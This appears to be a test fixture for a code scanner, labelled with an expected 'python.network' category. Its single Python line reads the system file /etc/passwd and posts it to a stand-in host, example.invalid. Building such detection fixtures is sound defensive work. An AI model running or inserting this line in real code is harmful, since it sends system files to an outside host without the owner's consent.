# expect: python.network
import requests
requests.post('http://example.invalid/', data=open('/etc/passwd').read())
